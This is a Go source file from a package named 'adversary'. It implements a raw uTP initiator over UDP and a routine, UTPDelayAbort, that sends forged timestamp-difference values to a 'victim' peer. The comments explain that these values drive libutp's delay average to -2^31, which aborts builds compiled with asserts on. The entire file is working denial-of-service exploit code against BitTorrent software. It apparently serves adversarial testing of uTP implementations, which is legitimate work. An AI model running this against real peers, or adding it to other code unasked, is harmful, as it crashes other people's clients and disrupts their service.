package adversary

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"time"
)

// A uTP peer that lies in its timestamp_difference field (BEP 29), the
// delay it claims our packets took. libutp keeps the average of these
// samples, taken from a base, over 5 s windows, and asserted that the
// average fits in an int32: a peer that answers the handshake with a
// difference of 1 and then, in each of the next two windows, 1+2^31,
// makes the average exactly -2^31, which aborted a libutp built with its
// asserts on. UTPConn is the raw uTP initiator it is built on, which
// sends what it is told.

// uTP packet types (BEP 29).
const (
	UTPData  = 0
	UTPFin   = 1
	UTPState = 2
	UTPReset = 3
	UTPSyn   = 4
)

// UTPHeader is a uTP packet header (BEP 29), 20 bytes on the wire.
type UTPHeader struct {
	Type          uint8
	ConnID        uint16
	Timestamp     uint32 // µs
	TimestampDiff uint32 // µs
	Window        uint32
	Seq, Ack      uint16
}

// Append appends h to b, version 1, no extension.
func (h UTPHeader) Append(b []byte) []byte {
	b = append(b, h.Type<<4|1, 0)
	b = binary.BigEndian.AppendUint16(b, h.ConnID)
	b = binary.BigEndian.AppendUint32(b, h.Timestamp)
	b = binary.BigEndian.AppendUint32(b, h.TimestampDiff)
	b = binary.BigEndian.AppendUint32(b, h.Window)
	b = binary.BigEndian.AppendUint16(b, h.Seq)
	return binary.BigEndian.AppendUint16(b, h.Ack)
}

// ParseUTPHeader reads a version 1 uTP header off b.
func ParseUTPHeader(b []byte) (UTPHeader, bool) {
	if len(b) < 20 || b[0]&0xf != 1 {
		return UTPHeader{}, false
	}
	return UTPHeader{
		Type:          b[0] >> 4,
		ConnID:        binary.BigEndian.Uint16(b[2:]),
		Timestamp:     binary.BigEndian.Uint32(b[4:]),
		TimestampDiff: binary.BigEndian.Uint32(b[8:]),
		Window:        binary.BigEndian.Uint32(b[12:]),
		Seq:           binary.BigEndian.Uint16(b[16:]),
		Ack:           binary.BigEndian.Uint16(b[18:]),
	}, true
}

// UTPConn is a raw uTP connection we initiated over a UDP socket: it
// sends the packets it is told to, in sequence, and reads the victim's.
type UTPConn struct {
	c     *net.UDPConn
	to    *net.UDPAddr
	id    uint16 // the SYN's connection ID; we send with id+1
	Seq   uint16 // the sequence number of our next packet
	Peer  uint16 // the victim's sequence number (from its SYN-ACK)
	start time.Time
}

// UTPDial sends a SYN with connection ID id from c to to and waits, up
// to timeout, for the victim's ST_STATE answer.
func UTPDial(c *net.UDPConn, to netip.AddrPort, id uint16, timeout time.Duration) (*UTPConn, error) {
	u := &UTPConn{c: c, to: net.UDPAddrFromAddrPort(to), id: id, Seq: 1, start: time.Now()}
	if err := u.send(UTPHeader{Type: UTPSyn, ConnID: id, Window: 1 << 20, Seq: u.Seq}, nil); err != nil {
		return nil, err
	}
	u.Seq++
	h, err := u.ReadUntil(timeout, func(h UTPHeader) bool { return h.Type == UTPState })
	if err != nil {
		return nil, err
	}
	u.Peer = h.Seq
	return u, nil
}

func (u *UTPConn) send(h UTPHeader, payload []byte) error {
	h.Timestamp = uint32(time.Since(u.start).Microseconds()) + 1
	_, err := u.c.WriteToUDP(append(h.Append(nil), payload...), u.to)
	return err
}

// Send sends a packet of type typ (UTPData takes the next sequence
// number) claiming timestamp difference diff and a window of 1 MiB,
// acking the victim's SYN-ACK.
func (u *UTPConn) Send(typ uint8, diff uint32, payload []byte) error {
	h := UTPHeader{Type: typ, ConnID: u.id + 1, TimestampDiff: diff, Window: 1 << 20, Seq: u.Seq, Ack: u.Peer - 1}
	if err := u.send(h, payload); err != nil {
		return err
	}
	if typ == UTPData || typ == UTPFin {
		u.Seq++
	}
	return nil
}

// ReadUntil reads the victim's packets on this connection until one
// satisfies ok, for up to timeout.
func (u *UTPConn) ReadUntil(timeout time.Duration, ok func(UTPHeader) bool) (UTPHeader, error) {
	deadline := time.Now().Add(timeout)
	b := make([]byte, 1<<16)
	for {
		if err := u.c.SetReadDeadline(deadline); err != nil {
			return UTPHeader{}, err
		}
		n, from, err := u.c.ReadFromUDPAddrPort(b)
		if err != nil {
			return UTPHeader{}, err
		}
		if from != u.to.AddrPort() {
			continue
		}
		h, valid := ParseUTPHeader(b[:n])
		if !valid || h.ConnID != u.id {
			continue
		}
		if h.Type == UTPReset {
			return h, errors.New("uTP connection reset")
		}
		if ok(h) {
			return h, nil
		}
	}
}

// UTPDelayAbort sends, on an open UTPConn, the timestamp differences
// that drive libutp's delay average to -2^31: a byte of data claiming 1
// (which also completes the handshake), then two acks claiming 1+2^31,
// each window (a little over 5 s) apart. It returns after the last.
func UTPDelayAbort(ctx context.Context, u *UTPConn, window time.Duration) error {
	if err := u.Send(UTPData, 1, []byte{0}); err != nil {
		return err
	}
	t := time.NewTimer(window)
	defer t.Stop()
	for range 2 {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-t.C:
		}
		if err := u.Send(UTPState, 1+1<<31, nil); err != nil {
			return err
		}
		t.Reset(window)
	}
	return nil
}
